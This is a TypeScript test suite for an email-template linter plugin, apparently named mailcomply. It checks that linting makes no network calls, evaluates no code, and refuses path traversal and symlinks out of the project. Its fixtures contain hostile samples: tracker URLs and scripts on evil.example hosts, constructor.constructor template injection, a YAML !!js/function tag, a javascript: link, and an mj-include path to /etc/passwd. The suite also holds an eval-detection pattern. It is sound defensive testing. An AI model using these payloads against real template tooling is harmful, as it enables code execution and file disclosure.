import dns from "node:dns";
import fs from "node:fs";
import http from "node:http";
import https from "node:https";
import net from "node:net";
import path from "node:path";
import { afterEach, describe, expect, test, vi } from "vitest";
import { ESLint } from "eslint";
import plugin from "../../plugin/index.js";
import { createZeroConfig } from "../../src/cli/config.js";
import { tempProject } from "../helpers/lint.js";

/**
 * Lint time never touches the network and never evaluates code from a
 * template or sidecar, whatever they contain.
 */
const hostile = {
	"mail.mjml": `<mjml><mj-head><mj-style>@import url("https://fonts.evil.example/x.css");</mj-style></mj-head><mj-body>
<mj-section><mj-column><mj-image src="https://tracker.evil.example/p.gif?e={{email}}" />
<mj-text><a href="https://evil.example/unsubscribe">Unsubscribe</a><script src="https://evil.example/x.js"></script>
<img src="http://insecure.example/i.png"></mj-text>
<mj-include path="https://evil.example/partial.mjml" />
</mj-column></mj-section></mj-body></mjml>`,
	"page.html": `<!DOCTYPE html><html><head><link rel="stylesheet" href="https://cdn.evil.example/a.css"><script>globalThis.__mailcomplyPwned = true; process.exit(3)</script></head>
<body><form action="http://evil.example/subscribe"><input type="email" name="email"></form>
<a href="javascript:globalThis.__mailcomplyPwned=true">Afmelden</a><img src="https://evil.example/{{ constructor.constructor('globalThis.__mailcomplyPwned=true')() }}"></body></html>`,
	"page.campaign.yaml": `kind: !!js/function "function () { globalThis.__mailcomplyPwned = true }"\nesp: other\n`,
	"mail.campaign.yaml": `headers:\n  List-Unsubscribe: "<https://evil.example/u>"\nsubject: "{{ constructor.constructor('globalThis.__mailcomplyPwned=true')() }}"\n`,
};

afterEach(() => vi.restoreAllMocks());

describe("security properties", () => {
	test("linting makes no network access", async () => {
		const attempts: string[] = [];
		const refuse = (what: string) =>
			((...args: unknown[]) => {
				attempts.push(`${what} ${String(args[0])}`);
				throw new Error(`network access attempted: ${what}`);
			}) as never;
		vi.spyOn(net.Socket.prototype, "connect").mockImplementation(refuse("net.connect"));
		vi.spyOn(http, "request").mockImplementation(refuse("http.request"));
		vi.spyOn(http, "get").mockImplementation(refuse("http.get"));
		vi.spyOn(https, "request").mockImplementation(refuse("https.request"));
		vi.spyOn(https, "get").mockImplementation(refuse("https.get"));
		vi.spyOn(dns, "lookup").mockImplementation(refuse("dns.lookup"));
		vi.spyOn(globalThis, "fetch").mockImplementation(refuse("fetch"));
		const project = tempProject(hostile);
		try {
			const eslint = new ESLint({
				cwd: project.dir,
				overrideConfigFile: true,
				overrideConfig: createZeroConfig(plugin, undefined),
			});
			const results = await eslint.lintFiles(["."]);
			expect(results.length).toBe(4);
			expect(
				results.every((result) =>
					result.messages.every((message) => !message.fatal || /alias|tag|js\/function/iu.test(message.message)),
				),
			).toBe(true);
		} finally {
			project.cleanup();
		}
		expect(attempts).toEqual([]);
	});

	test("no code from a template or sidecar is evaluated", async () => {
		const project = tempProject(hostile);
		try {
			const eslint = new ESLint({
				cwd: project.dir,
				overrideConfigFile: true,
				overrideConfig: createZeroConfig(plugin, undefined),
			});
			await eslint.lintFiles(["."]);
			expect((globalThis as Record<string, unknown>)["__mailcomplyPwned"]).toBeUndefined();
		} finally {
			project.cleanup();
		}
	});

	test("no eval, Function constructor or dynamic import of user data in the linter's own code", () => {
		const roots = ["src", "rules", "plugin"].map((dir) => path.resolve(import.meta.dirname, "../..", dir));
		const offenders: string[] = [];
		for (const root of roots) {
			for (const file of fs.readdirSync(root, { recursive: true, encoding: "utf8" })) {
				if (!file.endsWith(".ts")) continue;
				const text = fs.readFileSync(path.join(root, file), "utf8");
				if (/\beval\s*\(|new\s+Function\s*\(|\bvm\.run|\brunInNewContext\b/u.test(text)) offenders.push(file);
			}
		}
		expect(offenders).toEqual([]);
	});
});

/** Spies on the two ways mailcomply opens a file for reading and returns the list of every path opened, until `vi.restoreAllMocks()`. */
function recordOpenedPaths(): string[] {
	const opened: string[] = [];
	for (const name of ["readFileSync", "openSync"] as const) {
		const original = fs[name] as (...args: unknown[]) => unknown;
		vi.spyOn(fs, name).mockImplementation(((target: unknown, ...rest: unknown[]) => {
			opened.push(String(target));
			return original(target, ...rest);
		}) as never);
	}
	return opened;
}

/**
 * The include root comes from the file being linted, never from the
 * process: an editor's ESLint server or a script started elsewhere runs
 * with a working directory that has nothing to do with the project.
 */
describe("the include root does not depend on the process's working directory", () => {
	const escape = `<mjml><mj-body><mj-section><mj-column><mj-include path="../../../../../../../../etc/passwd" type="html" /><mj-text><a href="*|UNSUB|*">Afmelden</a></mj-text></mj-column></mj-section></mj-body></mjml>`;

	/** Lints `files` through ESLint's API with `cwd` set to the project while the process sits in `/`, recording every path opened for reading. */
	async function lintFromRoot(files: Record<string, string>, languageOptions?: Record<string, unknown>) {
		const project = tempProject(files);
		const opened = recordOpenedPaths();
		const before = process.cwd();
		process.chdir("/");
		try {
			const overrideConfig = [
				...createZeroConfig(plugin, undefined),
				...(languageOptions ? [{ files: ["**/*.mjml"], languageOptions }] : []),
			];
			const eslint = new ESLint({ cwd: project.dir, overrideConfigFile: true, overrideConfig });
			const results = await eslint.lintFiles(["."]);
			return { project, results, opened };
		} finally {
			process.chdir(before);
			project.cleanup();
		}
	}

	const includeMessages = (results: ESLint.LintResult[]) =>
		results
			.flatMap((result) => result.messages)
			.filter((message) => message.ruleId === "mailcomply/valid-template")
			.map((message) => message.message);

	test("without includeRoot, ../../etc/passwd is refused and reported, not read", async () => {
		const { results, opened } = await lintFromRoot({ "package.json": "{}", "emails/mail.mjml": escape });
		expect(opened.filter((file) => file.includes("passwd"))).toEqual([]);
		expect(includeMessages(results)).toEqual([
			expect.stringMatching(/mj-include ".*etc\/passwd": outside the include root/u),
		]);
		expect(JSON.stringify(results)).not.toMatch(/root:x:0/u);
	});

	test("in a folder with no project marker, the root is the template's own folder", async () => {
		const { results, opened } = await lintFromRoot({ "mail.mjml": escape });
		expect(opened.filter((file) => file.includes("passwd"))).toEqual([]);
		expect(includeMessages(results)).toEqual([expect.stringMatching(/outside the include root/u)]);
	});

	test("a project reached through a symbolic link (a linked workspace folder) still reads its own partials", async () => {
		const project = tempProject({
			"package.json": "{}",
			"emails/mail.mjml": `<mjml><mj-body><mj-section><mj-column><mj-include path="../partials/footer.mjml" /></mj-column></mj-section></mj-body></mjml>`,
			"emails/receipt.mjml": `<mjml><mj-body><mj-section><mj-column><mj-text>Spring sale: 20% off everything.</mj-text></mj-column></mj-section></mj-body></mjml>`,
			// Read through the link too: a marketing mail without opt-out would be an error.
			"emails/receipt.campaign.yaml": "kind: transactional\nsender: { name: Bakkerij de Vries }\n",
			"partials/footer.mjml": `<mj-text><a href="*|UNSUB|*">Afmelden</a></mj-text>`,
		});
		const link = `${project.dir}-link`;
		fs.symlinkSync(project.dir, link);
		try {
			const eslint = new ESLint({
				cwd: link,
				overrideConfigFile: true,
				overrideConfig: createZeroConfig(plugin, undefined),
			});
			const results = await eslint.lintFiles(["emails"]);
			expect(results.map((result) => result.filePath.startsWith(link))).toEqual([true, true, true]);
			expect(includeMessages(results)).toEqual([]);
			expect(
				results
					.flatMap((result) => result.messages)
					.filter((message) => message.ruleId === "mailcomply/require-unsubscribe"),
			).toEqual([]);
		} finally {
			fs.unlinkSync(link);
			project.cleanup();
		}
	});

	test("a relative includeRoot is resolved against the file's project, not the process", async () => {
		const { results, opened } = await lintFromRoot(
			{ "eslint.config.js": "export default [];", "emails/mail.mjml": escape },
			{ includeRoot: "." },
		);
		expect(opened.filter((file) => file.includes("passwd"))).toEqual([]);
		expect(includeMessages(results)).toEqual([expect.stringMatching(/outside the include root/u)]);
	});
});

/** Sidecars obey the include root: a symbolic link out of the project is neither read for its template nor quoted when linted itself. */
describe("a sidecar that is a symbolic link out of the project", () => {
	const template = `<mjml><mj-body><mj-section><mj-column><mj-text>Sale</mj-text></mj-column></mj-section></mj-body></mjml>`;
	const secret = `subject: "RE: SECRET-TOKEN-4711"\nkind: transactional\nsender: { name: SECRET-TOKEN-4711 }\n`;

	test("is refused with a located message, and its content is never read by mailcomply nor quoted", async () => {
		const outside = tempProject({ "secret.campaign.yaml": secret });
		const project = tempProject({ "package.json": "{}", "p.mjml": template });
		fs.symlinkSync(path.join(outside.dir, "secret.campaign.yaml"), path.join(project.dir, "p.campaign.yaml"));
		const opened = recordOpenedPaths();
		try {
			const eslint = new ESLint({
				cwd: project.dir,
				overrideConfigFile: true,
				overrideConfig: createZeroConfig(plugin, undefined),
			});
			const results = await eslint.lintFiles(["."]);
			vi.restoreAllMocks();
			expect(opened.filter((file) => file.startsWith(outside.dir) || file.endsWith("p.campaign.yaml"))).toEqual([]);
			expect(JSON.stringify(results.map((result) => result.messages))).not.toMatch(/SECRET-TOKEN/u);
			const sidecar = results.find((result) => result.filePath.endsWith("p.campaign.yaml"))!;
			expect(sidecar.messages.map((message) => `${message.line}:${message.column} ${message.message}`)).toEqual([
				expect.stringMatching(/^1:1 .*symbolic link.*outside the include root/u),
			]);
			// The template is judged as having no sidecar: a marketing mail, so its missing opt-out is an error.
			const mail = results.find((result) => result.filePath.endsWith("p.mjml"))!;
			expect(mail.messages.some((message) => message.ruleId === "mailcomply/require-unsubscribe")).toBe(true);
		} finally {
			project.cleanup();
			outside.cleanup();
		}
	});
});

describe("folder defaults that are a symbolic link out of the project", () => {
	test("are not read for the templates below them, and not quoted when linted themselves", async () => {
		const outside = tempProject({
			"secret.yaml": `kind: transactional\nsender: { name: SECRET-TOKEN-4711 }\nsubject: "RE: SECRET-TOKEN-4711"\n`,
		});
		const project = tempProject({
			"package.json": "{}",
			"emails/p.mjml": `<mjml><mj-body><mj-section><mj-column><mj-text>Spring sale: 20% off everything.</mj-text></mj-column></mj-section></mj-body></mjml>`,
		});
		fs.symlinkSync(path.join(outside.dir, "secret.yaml"), path.join(project.dir, "emails/defaults.campaign.yaml"));
		const opened = recordOpenedPaths();
		try {
			const eslint = new ESLint({
				cwd: project.dir,
				overrideConfigFile: true,
				overrideConfig: createZeroConfig(plugin, undefined),
			});
			const results = await eslint.lintFiles(["."]);
			vi.restoreAllMocks();
			expect(opened.filter((file) => file.startsWith(outside.dir) || file.endsWith("defaults.campaign.yaml"))).toEqual(
				[],
			);
			expect(JSON.stringify(results.map((result) => result.messages))).not.toMatch(/SECRET-TOKEN/u);
			// Not read: the mail stays marketing, so its missing opt-out is an error.
			const mail = results.find((result) => result.filePath.endsWith("p.mjml"))!;
			expect(mail.messages.some((message) => message.ruleId === "mailcomply/require-unsubscribe")).toBe(true);
			const defaults = results.find((result) => result.filePath.endsWith("defaults.campaign.yaml"))!;
			expect(defaults.messages.map((message) => `${message.line}:${message.column} ${message.message}`)).toEqual([
				expect.stringMatching(/^1:1 .*symbolic link.*outside the include root/u),
			]);
		} finally {
			project.cleanup();
			outside.cleanup();
		}
	});
});

describe("a template that is a symbolic link out of the project", () => {
	test("is not parsed: one error at line 1, nothing of its content in the report", async () => {
		const outside = tempProject({
			"secret.html": `<!DOCTYPE html><html><body><p>SECRET-TOKEN-4711</p><mj-section>SECRET-TOKEN-4711</body></html>`,
		});
		const project = tempProject({ "package.json": "{}" });
		fs.mkdirSync(path.join(project.dir, "emails"));
		fs.symlinkSync(path.join(outside.dir, "secret.html"), path.join(project.dir, "emails/linked.html"));
		try {
			const eslint = new ESLint({
				cwd: project.dir,
				overrideConfigFile: true,
				overrideConfig: createZeroConfig(plugin, undefined),
			});
			const [result] = await eslint.lintFiles(["emails"]);
			expect(
				result!.messages.map(
					(message) =>
						`${message.line}:${message.column} ${message.fatal ? "fatal" : message.ruleId} ${message.message}`,
				),
			).toEqual([expect.stringMatching(/^1:1 fatal .*symbolic link leading outside the include root/u)]);
			expect(JSON.stringify(result!.messages)).not.toMatch(/SECRET-TOKEN/u);
		} finally {
			project.cleanup();
			outside.cleanup();
		}
	});
});
